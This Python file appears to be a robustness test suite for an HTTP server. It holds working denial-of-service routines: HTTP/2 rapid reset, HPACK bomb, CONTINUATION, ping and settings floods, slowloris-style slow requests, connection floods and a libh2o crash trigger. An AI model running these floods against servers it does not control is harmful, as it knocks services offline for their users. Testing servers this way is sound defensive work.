# SPDX-License-Identifier: Apache-2.0
"""The attacks. Each is a function of (target, until): it goes on until that time (time.monotonic) and
gives None, or a line on what the server should have done and did not."""
import socket
import struct
import time

from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PRIORITY,
                  RST, SETTINGS, WINDOW, connect, field, frame, frames, get, goaway_code, hello, path,
                  read_all, setting)

CALM = 11
CANCEL = struct.pack(">I", 8)


def again(target, until, payload, expect_calm=True):
    """Sends the bytes on one new connection after the other. At least one must have been told GOAWAY
    ENHANCE_YOUR_CALM (or cut before it could be), none may be left open."""
    rounds = cut = 0
    while time.monotonic() < until or rounds == 0:
        rounds += 1
        try:
            sock = connect(target)
        except OSError:
            time.sleep(0.01)  # refused: too many new connections
            cut += 1
            continue
        with sock:
            try:
                sock.sendall(payload)
            except OSError:
                cut += 1
                continue
            got, closed = read_all(sock, 1.0)
            if goaway_code(got) == CALM or (closed and expect_calm):
                cut += 1
            elif expect_calm:
                return f"still open after {len(payload)} bytes, got {list(frames(got))[:4]}"
    return None if cut or not expect_calm else "was never cut"


def window_abort(target, until):
    """libh2o aborts when a WINDOW_UPDATE meets a window used up exactly while a write is blocked."""
    for size in (1, 2, 3, 4, 100, 4094):
        wrong = again(target, 0, hello(setting(4, size)) + b"".join(get(s, fields=target.get) for s in range(1, 100, 2)))
        if wrong:
            return f"window of {size}: {wrong}"
    while time.monotonic() < until:
        with connect(target, receive_buffer=2048) as sock:
            sock.settimeout(0.2)
            update = struct.pack(">I", 1)
            asks = b"".join(get(s, fields=target.get) + frame(WINDOW, 0, s, update) for s in range(1, 400, 2))
            try:
                sock.sendall(hello(setting(4, 4095)) + asks)
            except OSError:
                pass
    return None


def hpack_bomb(target, until):
    """One long field in the table, then references of one byte each; streams left open."""
    entry = b"\x40\x01a" + b"\x7f\x80\x1e" + b"v" * 3967  # literal with indexing, 3967 bytes
    refs = b"\xbe" * 16000
    block = frame(HEADERS, 0, 1, entry) + b"".join(
        frame(CONTINUATION, END_HEADERS if i == 25 else 0, 1, refs) for i in range(26))
    wrong = again(target, until - 1, hello() + block)
    plain = hello() + get(1, END_HEADERS | END_STREAM, GET + entry) + b"".join(
        frame(HEADERS, END_HEADERS, s, POST + refs) for s in range(3, 200, 2))
    return wrong or again(target, until, plain)


def rapid_reset(target, until):
    return again(target, until, hello() + b"".join(
        get(s, fields=target.get) + frame(RST, 0, s, CANCEL) for s in range(1, 20000, 2)))


def post_reset(target, until):
    return again(target, until, hello() + b"".join(
        get(s, END_HEADERS, target.post) + frame(DATA, END_STREAM, s, target.body) + frame(RST, 0, s, CANCEL)
        for s in range(1, 10000, 2)))


def made_you_reset(target, until):
    zero = struct.pack(">I", 0)
    first = hello() + b"".join(get(s, fields=target.get) + frame(WINDOW, 0, s, zero) for s in range(1, 20000, 2))
    second = hello() + b"".join(get(s, fields=target.get) + frame(DATA, 0, s, b"x") for s in range(1, 20000, 2))
    return again(target, until - 1, first) or again(target, until, second)


def missing_path(target, until):
    return again(target, until, hello() + b"".join(
        get(s, END_STREAM | END_HEADERS, b"\x82\x86") for s in range(1, 20000, 2)))


def unknown_frames(target, until):
    return again(target, until, hello() + frame(0x20, 0, 0, b"") * 100000)


def ping_flood(target, until):
    return again(target, until, hello() + frame(PING, 0, 0, b"12345678") * 50000)


def settings_flood(target, until):
    many = b"".join(setting(4, 65535 + i % 2) for i in range(2700))
    streams = b"".join(get(s, END_HEADERS, target.post) for s in range(1, 200, 2))
    return again(target, until - 1, hello() + frame(SETTINGS) * 20000) or \
        again(target, until, hello() + streams + frame(SETTINGS, 0, 0, many) * 1000)


def continuation_flood(target, until):
    start = frame(HEADERS, END_STREAM, 1, GET)
    full = hello() + start + frame(CONTINUATION, 0, 1, field(b"a", b"b") * 3000) * 100
    empty = hello() + start + frame(CONTINUATION, 0, 1, b"") * 100000
    return again(target, until - 1, full) or again(target, until, empty)


def control_flood(target, until):
    """Empty and padded DATA, WINDOW_UPDATE, PRIORITY."""
    post = get(1, END_HEADERS, target.post)
    floods = (post + frame(DATA, 0, 1, b"") * 100000, post + frame(DATA, 8, 1, b"\x05" + b"\0" * 5) * 100000,
              frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 100000,
              post + frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 100000)
    for flood in floods:
        wrong = again(target, 0, hello(window=False) + flood)
        if wrong:
            return wrong
    return again(target, until, hello() + floods[0])


def outlives(target, opening, drip, seconds, every=0.3):
    """Whether a connection is still there after `seconds` of `drip`s (bytes, or a function of the
    round)."""
    end = time.monotonic() + seconds
    with connect(target) as sock:
        try:
            sock.sendall(opening)
            count = 0
            while time.monotonic() < end:
                sock.settimeout(every)
                count += 1
                if drip:
                    sock.sendall(drip(count) if callable(drip) else drip)
                try:
                    if not sock.recv(65536):
                        return False
                    time.sleep(every)
                except socket.timeout:
                    pass
        except OSError:
            return False
    return True


def all_end(target, named):
    """Runs each (name, opening, drip) in turn on its own connection, all at once."""
    import threading
    alive = []

    def one(name, opening, drip):
        if outlives(target, opening, drip, target.lifetime):
            alive.append(name)

    threads = [threading.Thread(target=one, args=row) for row in named]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"still open after {target.lifetime} s: {alive}" if alive else None


def slow(target, until):
    """Requests that never end, in every way to be slow."""
    del until
    head = b"POST / HTTP/1.1\r\nhost: x\r\n"
    open_block = frame(HEADERS, END_STREAM, 1, GET)
    return all_end(target, [
        ("h1 headers", b"POST / HTTP/1.1\r\n", lambda n: b"x-%d: y\r\n" % n),
        ("h1 body", head + b"content-length: 1000000\r\n\r\n", b"x"),
        ("h1 chunks", head + b"transfer-encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
        ("h1 nothing", b"", None),
        ("h2 body", hello() + get(1, END_HEADERS, target.post), frame(DATA, 0, 1, b"x" * 100)),
        ("h2 open block", hello() + open_block, lambda n: b"" if n > 1 else b"\0"),
        ("h2 dripped frame", hello(), lambda n: (frame(PING, 0, 0, b"12345678") * 9)[n:n + 1]),
        ("h2 pings only", hello(), frame(PING, 0, 0, b"12345678")),
        ("h2 silence", hello(), None),
    ])


def slow_crowd(target, until):
    """As `slow`, by a crowd that leaves before its time is up."""
    head = b"POST / HTTP/1.1\r\nhost: x\r\n"
    kinds = ((b"POST / HTTP/1.1\r\n", b"x: y\r\n"), (head + b"content-length: 1000000\r\n\r\n", b"x"),
             (head + b"transfer-encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
             (hello() + get(1, END_HEADERS, target.post), frame(DATA, 0, 1, b"x" * 100)),
             (hello() + frame(HEADERS, END_STREAM, 1, GET), b""))
    crowd = []
    for i in range(300):
        opening, drip = kinds[i % len(kinds)]
        sock = connect(target)
        sock.sendall(opening)
        crowd.append((sock, drip))
    while time.monotonic() < until:
        for sock, drip in crowd:
            try:
                sock.sendall(drip)
            except OSError:
                pass  # too many fields, or drops of a body too small: cut, as it should be
        time.sleep(0.3)
    for sock, _ in crowd:
        sock.close()
    return None


def unread(target, until):
    """Answers that are asked for and never read: no connection window, no stream window, HTTP/1
    pipelining."""
    del until
    starved = hello(window=False) + b"".join(
        get(s, END_STREAM | END_HEADERS, GET + field(b"n", b"%d" % s)) for s in range(1, 200, 2))
    start = time.monotonic()
    socks = []
    for _ in range(4):
        sock = connect(target, receive_buffer=2048)
        sock.sendall(starved)
        socks.append(sock)
    piped = connect(target, receive_buffer=2048)
    piped.setblocking(False)
    socks.append(piped)
    ask = b"GET /counters HTTP/1.1\r\nhost: x\r\n\r\n" * 1000
    while time.monotonic() < start + target.lifetime * 3:
        try:
            piped.send(ask)
        except BlockingIOError:
            pass
        except OSError:
            break
        time.sleep(0.05)
    else:
        return "the pipelining connection that reads nothing is still open"
    open_still = sum(not read_all(sock, 1.0)[1] for sock in socks)
    for sock in socks:
        sock.close()
    return f"{open_still} connections without a window are still open" if open_still else None


def partial_bodies(target, until):
    """100 streams of 1 MB each a connection, none finished."""
    socks = []
    while time.monotonic() < until and len(socks) < 16:
        sock = connect(target)
        socks.append(sock)
        try:
            sock.sendall(hello() + b"".join(get(s, END_HEADERS, target.post) for s in range(1, 200, 2)))
            for _ in range(64):
                sock.sendall(b"".join(frame(DATA, 0, s, b"x" * 16000) for s in range(1, 200, 2)))
        except OSError:
            continue
        return "a connection took 100 MB of unfinished bodies"
    for sock in socks:
        sock.close()
    return None


def partial_bodies_http1(target, until):
    """As many connections as one address may have, each with all but the last byte of a body."""
    socks = []
    head = b"POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 4000000\r\n\r\n"
    while time.monotonic() < until and len(socks) < 100:
        try:
            sock = connect(target)
            socks.append(sock)
            sock.sendall(head + b"x" * 3999999)
        except OSError:
            pass
    for sock in socks:
        sock.close()
    return None


def connection_flood(target, until):
    """Connections as fast as possible, each kept open."""
    socks = []
    while time.monotonic() < until:
        try:
            socks.append(connect(target))
        except OSError:
            break
        if len(socks) > 900:
            break
    for sock in socks:
        sock.close()
    return None


def endless_chunk_extension(target, until):
    with connect(target) as sock:
        sock.sendall(b"POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n1;")
        try:
            while time.monotonic() < until:
                sock.sendall(b"a" * 65536)
        except OSError:
            pass
    return None


def garbage(target, until):
    """Broken in ways that must only cost the sender its connection."""
    import random
    dice = random.Random(1)
    kinds = (b"", b"\0" * 100, b"GET", b"\x16\x03\x01" + b"a" * 200, hello()[:30])
    while time.monotonic() < until:
        noise = bytes(dice.randrange(256) for _ in range(dice.randrange(300)))
        frames_of_noise = b"".join(
            frame(dice.randrange(12), dice.randrange(256), dice.randrange(20), noise[:dice.randrange(60)])
            for _ in range(20))
        for opening in kinds + (hello(),):
            with connect(target) as sock:
                try:
                    sock.sendall(opening + frames_of_noise)
                    sock.shutdown(socket.SHUT_WR)
                    read_all(sock, 0.05)
                except OSError:
                    pass
    return None


def half_closed_continuation(target, until):
    """After a GOAWAY libh2o decodes a CONTINUATION for ever; see integration.http_drain."""
    with connect(target) as sock:
        sock.sendall(hello() + get(1, END_STREAM | END_HEADERS, b"\x82\x86" + path(b"/never")) +
                     frame(HEADERS, END_STREAM, 3, GET))
        time.sleep(max(0.0, until - time.monotonic()))
        try:
            sock.sendall(frame(CONTINUATION, END_HEADERS, 3, b""))
        except OSError:
            return None
        read_all(sock, 0.5)
    return None


ALL = {name: call for name, call in list(globals().items())
       if callable(call) and getattr(call, "__module__", "") == __name__ and call.__code__.co_varnames[:2] ==
       ("target", "until") and name != "again"}
assert ACK == 1
